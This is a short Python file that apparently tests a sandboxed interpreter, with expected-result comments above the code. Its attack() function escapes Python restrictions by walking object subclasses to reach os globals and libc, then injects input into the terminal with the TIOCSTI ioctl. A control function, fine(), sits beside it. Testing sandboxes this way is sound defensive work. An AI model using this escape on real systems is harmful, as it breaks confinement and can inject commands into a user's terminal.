# typing into a terminal
# monty: error
# process: ok
# content: -1


def attack(port, marker):
    g = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
    lib = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "CDLL"][0](None)
    return lib.ioctl(0, 0x5412, b"x")


def fine(number):
    return number + 1
